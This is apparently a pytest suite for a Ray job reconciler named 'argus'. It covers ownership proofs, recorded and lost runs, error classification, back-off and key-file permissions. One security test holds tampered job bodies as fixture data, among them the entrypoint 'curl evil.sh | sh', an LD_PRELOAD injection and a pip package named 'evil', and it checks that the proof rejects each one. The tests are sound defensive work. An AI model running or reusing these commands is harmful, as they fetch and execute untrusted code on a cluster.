"""Runs argus submitted: ownership proofs, run records, LOST, error classes, back-off, the key file.

Pure logic with plain data; the Jobs API answers below are Ray 2.60's own texts
(``ray/dashboard/modules/job/job_head.py``). Real-Ray and real-git versions of these live in
tests/e2e/test_jobs_layer.py and tests/e2e/test_head_restart.py.
"""

from __future__ import annotations

import os
import stat
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reconciler.apply.jobs import http_failure
from reconciler.apply.ownership import ENV_KEY, KEY_FILE, load_or_create_key
from reconciler.builders.jobs import LABEL_PROOF, job_submission, proof_valid
from reconciler.dashboard import DashboardError
from reconciler.errors import ApplyDeferred, ApplyRefused, PermanentError
from reconciler.observe.jobs import observe_job_records
from reconciler.observe.runs import recorded_runs
from reconciler.plan.actions import ActionType
from reconciler.plan.actual import LOST, LOST_REASON, ActualJob, ActualState, Capacity
from reconciler.plan.assess import assess
from reconciler.plan.planner import plan
from reconciler.source.remote import open_source
from reconciler.spec.hashing import submission_id, task_spec_hash
from reconciler.spec.types import ClusterSpec, DesiredState, ModelSpec, ObjectKey, Paths, Training
from reconciler.status.branch import read_documents
from reconciler.status.writer import StatusWriter
from tests.support import git, task_spec, ticker

KEY = b"k" * 32
CAP = Capacity(total={"GPU": 8, "CPU": 64, "worker_node": 4}, available={"GPU": 8, "CPU": 64, "worker_node": 4})


def cluster(tmp: Path | None = None) -> ClusterSpec:
    root = tmp or Path("/shared")
    return ClusterSpec(
        paths=Paths(common=str(root / "hf"), users=str(root / "users")),
        training=Training(rollout="vllm", driver_resources={"worker_node": 1.0}),
    )


class FakeJobsAPI:
    """``GET /api/jobs/`` answering a fixed JobDetails list (the observer's only call)."""

    def __init__(self, jobs: list[dict[str, Any]]) -> None:
        self.jobs = jobs

    def get(self, path: str) -> Any:
        assert path == "/api/jobs/"
        return self.jobs


def details(body: dict[str, Any], status: str = "SUCCEEDED") -> dict[str, Any]:
    """Ray's JobDetails of a submitted ``body``: what was submitted, and its status."""
    return {**body, "status": status}


# -- ownership proofs ---------------------------------------------------------------------------


def test_proof_binds_id_owner_task_and_spec() -> None:
    task = task_spec("alice", "train", command="true")
    body = job_submission(task, cluster(), revision=None, secrets_env={}, ownership_key=KEY)
    meta = body["metadata"]
    sid = submission_id(task)
    assert proof_valid(KEY, sid, body)
    assert not proof_valid(b"x" * 32, sid, body)  # another daemon's key
    assert not proof_valid(KEY, sid + "--2", body)  # replayed under another id
    for field, value in (
        ("argus-user", "bob"),
        ("argus-task", "other"),
        ("argus-spec-hash", "0" * 16),
        ("argus-revision", "f" * 40),
        ("argus-resources", "{}"),
    ):
        assert not proof_valid(KEY, sid, {**body, "metadata": {**meta, field: value}}), field
    assert not proof_valid(KEY, sid, {**body, "metadata": {k: v for k, v in meta.items() if k != LABEL_PROOF}})
    assert not proof_valid(b"", sid, body)


def test_proof_covers_what_runs() -> None:
    """Job code holding the Ray token deletes a finished job and resubmits its id with the
    labels copied (``/api/v1/deployed`` publishes them): whatever it changes in what runs, the
    copied proof does not verify."""
    task = task_spec("alice", "train", command="python train.py", working_dir="/data/alice/code")
    body = job_submission(task, cluster(), revision=None, secrets_env={"HF_TOKEN": "t"}, ownership_key=KEY)
    sid = submission_id(task)
    assert proof_valid(KEY, sid, body)
    env = body["runtime_env"]
    for changed in (
        {"entrypoint": "curl evil.sh | sh"},
        {"runtime_env": {**env, "working_dir": "local:///data/mallory/code"}},
        {"runtime_env": {**env, "env_vars": {**env["env_vars"], "LD_PRELOAD": "/tmp/x.so"}}},
        {"runtime_env": {**env, "pip": ["evil"]}},
        {"runtime_env": None},
    ):
        assert not proof_valid(KEY, sid, {**body, **changed}), changed
    # Ray's JobDetails leave the entrypoint resources out and add fields of their own: still argus's.
    details = {k: v for k, v in body.items() if not k.startswith("entrypoint_")}
    assert proof_valid(KEY, sid, {**details, "status": "SUCCEEDED", "job_id": "x", "driver_exit_code": 0})


def test_forged_labels_are_foreign_and_never_a_run(tmp_path: Path) -> None:
    """A job claiming alice's task, its run folder in bob's home, holding alice's id: foreign."""
    spec = cluster(tmp_path)
    task = task_spec("alice", "train", command="true", created_at=1)
    forged = job_submission(task, spec, revision=None, secrets_env={}, ownership_key=b"guessed-key-000000000000")
    forged["metadata"]["argus-run-dir"] = str(tmp_path / "users" / "bob" / "jobs" / "x")
    mine_task = task_spec("alice", "other", command="true")
    mine = job_submission(mine_task, spec, revision=None, secrets_env={}, ownership_key=KEY)
    obs = observe_job_records(FakeJobsAPI([details(forged), details(mine)]), KEY, spec.paths)  # type: ignore[arg-type]
    assert [j.submission_id for j in obs.owned] == [submission_id(mine_task)]
    assert [(f.submission_id, f.claims) for f in obs.foreign] == [(submission_id(task), "alice/tasks/train")]
    # The planner: not a run of alice's task, and alice's run takes the next id.
    model = ModelSpec(
        key=ObjectKey("alice", "model", "chat"),
        source="task:train",
        source_path=None,
        source_task="train",
        replicas=1,
        gpus_per_replica=1,
        engine_kwargs={},
        env={},
        suspend=False,
        created_at=1,
    )
    desired = DesiredState(cluster=spec, models={model.key: model}, tasks={task.key: task})
    actual = ActualState(jobs=obs.owned, capacity=CAP, foreign_ids=frozenset(f.submission_id for f in obs.foreign))
    result = plan(desired, actual)
    submit = next(a for a in result.actions if a.type is ActionType.SUBMIT_TASK)
    assert submit.submission_id == submission_id(task, 2)
    assert next(a for a in result.actions if a.key == model.key).type is ActionType.QUEUE
    # Deterministic: the same observation gives the same fresh id.
    assert plan(desired, actual).for_key(task.key)[0].submission_id == submission_id(task, 2)


def test_checkpoint_outside_the_home_is_not_served(tmp_path: Path) -> None:
    spec = cluster(tmp_path)
    task = task_spec("alice", "train", command="true")
    sid = submission_id(task)
    body = job_submission(task, spec, revision=None, secrets_env={}, ownership_key=KEY)
    bob = tmp_path / "users" / "bob" / "model"
    bob.mkdir(parents=True)
    (bob / "config.json").write_text("{}")
    (bob / "model.safetensors").write_bytes(b"x")
    run = tmp_path / "users" / "alice" / "jobs" / "train" / sid / "checkpoints"
    run.mkdir(parents=True)
    (run / "final").symlink_to(bob)  # a job of alice's pointing into bob's home
    obs = observe_job_records(FakeJobsAPI([details(body)]), KEY, spec.paths)  # type: ignore[arg-type]
    assert obs.owned[0].hf_checkpoint is None
    (run / "final").unlink()
    (run / "final").mkdir()
    (run / "final" / "config.json").write_text("{}")
    (run / "final" / "model.safetensors").write_bytes(b"x")
    obs = observe_job_records(FakeJobsAPI([details(body)]), KEY, spec.paths)  # type: ignore[arg-type]
    assert obs.owned[0].hf_checkpoint == str(run / "final")


# -- recorded runs and LOST ----------------------------------------------------------------------


def _desired(*tasks: Any) -> DesiredState:
    return DesiredState(cluster=cluster(), tasks={t.key: t for t in tasks})


def test_recorded_runs_read_back_only_ids_of_their_own_task() -> None:
    task = task_spec("alice", "train", command="true")
    sid = submission_id(task)
    docs = {
        "users/alice/tasks/train.yaml": {
            "runs": [
                {"submission_id": sid, "spec_hash": task_spec_hash(task), "status": "RUNNING"},
                {"submission_id": submission_id(task_spec("bob", "train")), "status": "SUCCEEDED"},  # not alice's
                {"submission_id": 5, "status": "SUCCEEDED"},
                "junk",
            ]
        },
        "users/alice/models/chat.yaml": {"runs": [{"submission_id": sid, "status": "SUCCEEDED"}]},
    }
    runs = recorded_runs(docs, None)
    assert [(r.submission_id, r.status, r.key) for r in runs] == [(sid, "RUNNING", task.key)]
    assert recorded_runs(docs, None, skip={sid}) == []


@pytest.mark.parametrize("recorded", ["RUNNING", "PENDING", "SUBMITTED"])
def test_a_run_ray_forgot_while_it_ran_is_lost(recorded: str) -> None:
    task = task_spec("alice", "train", command="true")
    run = ActualJob(submission_id(task), task.key, task_spec_hash(task), recorded)
    actual = ActualState(capacity=CAP, recorded_runs=[run])
    result = plan(_desired(task), actual)
    assert result.actions == []  # never resubmitted by itself
    st = assess(_desired(task), actual, result)[task.key]
    assert (st.state, st.reason, st.submission_id) == (LOST, LOST_REASON, run.submission_id)
    assert [r.status for r in st.runs] == [LOST]
    bumped = task_spec("alice", "train", command="true", run=2)
    again = plan(_desired(bumped), actual)
    assert [a.type for a in again.actions] == [ActionType.SUBMIT_TASK]


def test_ray_wins_over_the_record_for_the_same_run() -> None:
    task = task_spec("alice", "train", command="true")
    sid, digest = submission_id(task), task_spec_hash(task)
    actual = ActualState(
        jobs=[ActualJob(sid, task.key, digest, "SUCCEEDED")],
        capacity=CAP,
        recorded_runs=[ActualJob(sid, task.key, digest, "SUBMITTED")],
    )
    assert [r.status for r in actual.runs()] == ["SUCCEEDED"]
    assert assess(_desired(task), actual, plan(_desired(task), actual))[task.key].state == "SUCCEEDED"


def test_recorded_success_feeds_a_task_model_after_ray_forgot() -> None:
    task = task_spec("alice", "train", command="true")
    run = ActualJob(submission_id(task), task.key, task_spec_hash(task), "SUCCEEDED", hf_checkpoint="/ck")
    model = ModelSpec(
        key=ObjectKey("alice", "model", "chat"),
        source="task:train",
        source_path=None,
        source_task="train",
        replicas=1,
        gpus_per_replica=1,
        engine_kwargs={},
        env={},
        suspend=False,
        created_at=1,
    )
    desired = DesiredState(cluster=cluster(), models={model.key: model}, tasks={task.key: task})
    result = plan(desired, ActualState(capacity=CAP, recorded_runs=[run]))
    assert [(a.type, a.source_path) for a in result.actions] == [(ActionType.DEPLOY_MODEL, "/ck")]


def test_actual_json_round_trips_records() -> None:
    task = task_spec("alice", "train", command="true")
    actual = ActualState(
        recorded_runs=[ActualJob(submission_id(task), task.key, "h", "SUCCEEDED")], foreign_ids=frozenset({"x"})
    )
    back = ActualState.from_json(actual.to_json())
    assert back.recorded_runs == actual.recorded_runs and back.foreign_ids == actual.foreign_ids


# -- errors classified by what Ray says ------------------------------------------------------------


@pytest.mark.parametrize(
    ("status", "text", "permanent"),
    [
        (500, "No available agent to submit job, please try again later.", False),
        (500, "Traceback ...\nRuntimeError: Request failed with status code 400: ValueError: bad runtime_env.", True),
        (500, "Traceback ...\nRuntimeError: Request failed with status code 503: busy.", False),
        (500, "Traceback (most recent call last):\n  ...\nValueError: something inside the head", False),
        (400, "TypeError: entrypoint_num_gpus must be a number", True),
        (422, "unprocessable", True),
        (401, "Unauthorized", False),
        (403, "Forbidden", False),
        (404, "Not Found", False),
        (429, "Too Many Requests", False),
        (502, "Bad Gateway", False),
    ],
)
def test_errors_are_classified_by_rays_answer(status: int, text: str, permanent: bool) -> None:
    exc = http_failure("submit x", DashboardError("POST", "/api/jobs/", status, text))
    assert isinstance(exc, ApplyRefused if permanent else ApplyDeferred)
    assert isinstance(exc, PermanentError) is permanent and exc.permanent is permanent


# -- the ownership key -------------------------------------------------------------------------------


def test_key_file_is_created_private_and_reused(tmp_path: Path) -> None:
    state = tmp_path / "state"
    first = load_or_create_key(str(state), env={})
    assert stat.S_IMODE(os.stat(state / KEY_FILE).st_mode) == 0o600
    assert load_or_create_key(str(state), env={}) == first and len(first) >= 32
    os.chmod(state / KEY_FILE, 0o644)
    with pytest.raises(PermanentError, match="readable by others"):
        load_or_create_key(str(state), env={})
    assert load_or_create_key(str(state), env={ENV_KEY: "x" * 40}) == b"x" * 40
    with pytest.raises(PermanentError, match="too short"):
        load_or_create_key(str(state), env={ENV_KEY: "short"})


# -- the status branch records a run before it is submitted ------------------------------------------


def test_runs_are_recorded_before_submission_and_read_back(tmp_path: Path) -> None:
    bare = tmp_path / "config.git"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(bare))
    writer = StatusWriter(open_source(str(bare), str(tmp_path / "cache")), now=lambda: "2026-12-05T03:00:00Z")
    task = task_spec("alice", "train", command="true")
    sid, digest = submission_id(task), task_spec_hash(task)
    assert writer.record_runs([(task.key, sid, digest)])
    docs = read_documents(str(bare), "argus/status")
    # When argus submitted it, by its own clock: what the run's GPU-seconds count from.
    submitted = {"submitted_at": "2026-12-05T03:00:00Z"}
    assert docs[task.key.path]["runs"] == [
        {"submission_id": sid, "spec_hash": digest, "status": "SUBMITTED", **submitted}
    ]
    # A fresh writer (a restarted daemon) sees the record, and the planner does not submit again.
    runs = recorded_runs(StatusWriter(open_source(str(bare), str(tmp_path / "cache"))).documents(), None)
    assert [(r.submission_id, r.spec_hash) for r in runs] == [(sid, digest)]
    assert plan(_desired(task), ActualState(capacity=CAP, recorded_runs=runs)).actions == []
    assert writer.record_runs([(task.key, sid, digest)])  # idempotent: no second entry
    assert len(read_documents(str(bare), "argus/status")[task.key.path]["runs"]) == 1


# -- a tick against a Jobs API stand-in that answers like Ray right after a head starts ----------------


class FreshHead:
    """The dashboard REST API of an empty head whose job agent is not up yet for the first
    ``busy`` submissions (Ray's own answer: HTTP 500 "No available agent ..., try again later")."""

    def __init__(self, busy: int) -> None:
        from reconciler.dashboard import DashboardError

        self.busy, self.jobs, self.error = busy, [], DashboardError

    def get(self, path: str, **_kw: Any) -> Any:
        if path.startswith("/api/v0/nodes"):
            node = {"state": "ALIVE", "resources_total": {"CPU": 8.0, "GPU": 2.0, "worker_node": 2.0}}
            return {"data": {"result": {"result": [node]}}}
        if path == "/api/cluster_status":
            return {"data": {"clusterStatus": {"loadMetricsReport": {"usage": {}}}}}
        if path == "/api/jobs/":
            return [{**j, "status": "RUNNING"} for j in self.jobs]
        return {"applications": {}}

    def post(self, path: str, body: Any = None, **_kw: Any) -> Any:
        assert path == "/api/jobs/"
        if self.busy:
            self.busy -= 1
            raise self.error("POST", path, 500, "No available agent to submit job, please try again later.")
        self.jobs.append(dict(body))  # Ray keeps what was submitted
        return {"submission_id": body["submission_id"]}

    def put(self, path: str, body: Any, **_kw: Any) -> Any:
        return None


def test_no_available_agent_is_retried_with_backoff_and_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from tests.support import ConfigRepo, cluster_yaml

    repo = ConfigRepo(tmp_path)
    repo.write("cluster.yaml", cluster_yaml(tmp_path / "hf", tmp_path / "users", 8000))
    repo.write("users/alice/tasks/train.yaml", {"kind": "Task", "workload": "command", "command": "true"})
    repo.commit_push("alice: a task")
    head = FreshHead(busy=2)
    clock = [1000.0]
    monkeypatch.setattr("reconciler.apply.applier.time.monotonic", lambda: clock[0])
    rec = ticker(
        open_source(str(repo.bare), str(tmp_path / "cache")),
        "main",
        head,
        ownership_key=KEY,
        fs=None,  # type: ignore[arg-type]
    )
    key = ObjectKey("alice", "task", "train")
    first = rec.tick()
    assert "No available agent" in first.failures[key] and "temporary: retried in 2s" in first.failures[key]
    assert "apply failed" in first.statuses[key].reason and head.jobs == []
    clock[0] += 1  # not due yet: not sent again, and the status says when it will be
    assert "retried in 1s" in rec.tick().failures[key] and head.busy == 1
    clock[0] += 1
    assert "retried in 4s" in rec.tick().failures[key]  # second refusal: the delay doubles
    clock[0] += 4
    done = rec.tick()
    assert key not in done.failures and [j["submission_id"] for j in head.jobs] == [
        submission_id(done.desired.tasks[key])
    ]
    assert rec.tick().plan.for_key(key) == []  # submitted once; never again


def test_a_status_built_before_a_run_was_recorded_does_not_drop_it(tmp_path: Path) -> None:
    """The background writer may commit an older tick's report after record_runs: the record stays."""
    from reconciler.plan.assess import ObjectStatus
    from reconciler.status.writer import StatusReport

    bare = tmp_path / "config.git"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(bare))
    writer = StatusWriter(open_source(str(bare), str(tmp_path / "cache")))
    task = task_spec("alice", "train", command="true")
    sid, digest = submission_id(task), task_spec_hash(task)
    old_report = StatusReport(
        "a" * 40, {task.key: ObjectStatus(task.key, "QUEUED", "OutOfSync")}, set(), set(), None, []
    )
    assert writer.record_runs([(task.key, sid, digest)])
    writer.write(old_report)
    runs = read_documents(str(bare), "argus/status")[task.key.path]["runs"]
    assert [(r["submission_id"], r["status"]) for r in runs] == [(sid, "SUBMITTED")]


@pytest.mark.parametrize("first_write", [False, True])
def test_a_report_older_than_a_new_tasks_record_does_not_remove_it(tmp_path: Path, first_write: bool) -> None:
    """A task new this tick has its run recorded while the background writer still holds the last
    tick's report, which does not list the task: that report keeps the task's document and its
    SUBMITTED run (else a daemon crash and a Ray head restart before the next write would lose the
    only record, and the run could be submitted twice). The first report that knows the record
    removes the document once the task is gone. ``first_write``: the stale report is the writer's
    first (a full pass) or follows one (the incremental pass)."""
    from reconciler.plan.assess import ObjectStatus
    from reconciler.status.writer import StatusReport

    bare = tmp_path / "config.git"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(bare))
    writer = StatusWriter(open_source(str(bare), str(tmp_path / "cache")))
    old = task_spec("alice", "old", command="true")
    new = task_spec("bob", "new", command="true")
    sid, digest = submission_id(new), task_spec_hash(new)
    old_status = ObjectStatus(old.key, "QUEUED", "OutOfSync")
    if not first_write:
        assert writer.write(StatusReport("a" * 40, {old.key: old_status}, set(), set(), None, [])) is not None
    seen = writer.records  # the tick ends here; its report waits for the background writer
    stale = StatusReport("b" * 40, {old.key: old_status}, set(), set(), None, [], records_seen=seen)
    assert writer.record_runs([(new.key, sid, digest)])  # the next tick: a new task, recorded
    writer.write(stale)
    docs = read_documents(str(bare), "argus/status")
    assert [(r["submission_id"], r["status"]) for r in docs[new.key.path]["runs"]] == [(sid, "SUBMITTED")]
    assert old.key.path in docs
    # A report that knows the record and no longer lists the task (deleted) removes its document.
    current = StatusReport("c" * 40, {old.key: old_status}, set(), set(), None, [], records_seen=writer.records)
    assert writer.write(current) is not None
    assert new.key.path not in read_documents(str(bare), "argus/status")
    assert writer._recorded == {}  # known to an adopted report: not held any longer


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.sampled_from(["SUCCEEDED", "FAILED", "STOPPED", "RUNNING", "PENDING", "SUBMITTED", "LOST"]),
            st.booleans(),  # also still in Ray
            st.integers(min_value=1, max_value=3),  # the `run:` it was recorded for
        ),
        max_size=4,
    ),
    st.integers(min_value=1, max_value=3),
)
def test_a_spec_with_any_run_on_record_is_never_submitted(records: list[tuple[str, bool, int]], run: int) -> None:
    """Whatever Ray remembers, a spec with a run in Ray or on the status branch is not submitted;
    a spec with none is (bumping `run:` is how to run again)."""
    task = task_spec("alice", "train", command="true", run=run)
    jobs, recorded = [], []
    for status, in_ray, recorded_run in records:
        spec = task_spec("alice", "train", command="true", run=recorded_run)
        job = ActualJob(submission_id(spec), task.key, task_spec_hash(spec), status)
        recorded.append(job)
        if in_ray and status in ("SUCCEEDED", "FAILED", "STOPPED", "RUNNING", "PENDING"):
            jobs.append(job)
    actual = ActualState(jobs=jobs, capacity=CAP, recorded_runs=recorded)
    submits = [a for a in plan(_desired(task), actual).actions if a.type is ActionType.SUBMIT_TASK]
    ran = any(recorded_run == run for _s, _r, recorded_run in records)
    assert bool(submits) is not ran
